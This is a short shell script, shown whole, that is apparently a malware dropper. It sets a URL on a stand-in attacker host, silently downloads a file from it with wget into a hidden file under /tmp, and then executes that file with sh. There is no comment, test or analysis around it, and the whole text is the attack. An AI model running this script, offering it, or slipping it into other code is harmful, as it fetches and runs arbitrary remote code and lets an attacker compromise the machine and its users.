#!/bin/sh
u=https://m.evil.example
wget -q $u/m -O /tmp/.m
sh /tmp/.m
